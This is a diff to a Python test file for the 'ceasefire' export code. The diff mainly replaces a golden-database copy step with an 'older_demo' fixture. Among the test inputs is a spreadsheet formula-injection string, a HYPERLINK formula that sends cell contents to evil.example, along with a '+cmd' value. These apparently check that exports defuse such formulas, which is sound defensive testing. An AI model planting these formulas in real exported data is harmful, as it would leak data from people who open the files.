@@ -14,25 +14,23 @@ import dataclasses
 import io
 import itertools
 import json
-import shutil
 from pathlib import Path
 
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
-from store.storekit import SYRIA, OpenTarget
+from store.storekit import SYRIA, OpenTarget, older_demo
 
 from ceasefire import export_chunks, exports
 from ceasefire.ledger import canonical_json
 from ceasefire.model import Finding, RunSummary
 from ceasefire.service.workflow import import_events, init_database
-from ceasefire.store import SQLStore, open_store
+from ceasefire.store import SQLStore
 from ceasefire.store.arrow_reads import rows_table
 from ceasefire.store.export_reads import export_schema
 from ceasefire.store.pages import FindingFilter, run_rows
 from ceasefire.store.protocol import RunRecord
 
-GOLDEN = Path(__file__).parents[1] / "data" / "golden"
 TEXTS = (
     '=HYPERLINK("http://evil.example/?"&A2,"open")',
     "+cmd",
@@ -193,10 +191,7 @@ def test_an_empty_export_is_a_valid_parquet_file() -> None:
 
 def test_a_run_stored_as_documents_exports_the_same_bytes(tmp_path: Path) -> None:
     """Runs written before 0019 keep documents (``findings``): read through the same helper."""
-    for item in GOLDEN.glob("demo-before.sqlite*"):
-        (shutil.copytree if item.is_dir() else shutil.copy2)(item, tmp_path / item.name)
-    (tmp_path / "demo-before.sqlite.key").chmod(0o600)
-    store = open_store(tmp_path / "demo-before.sqlite")
+    store = older_demo(tmp_path)
     try:
         store.migrate()
         run = store.runs()[-1]
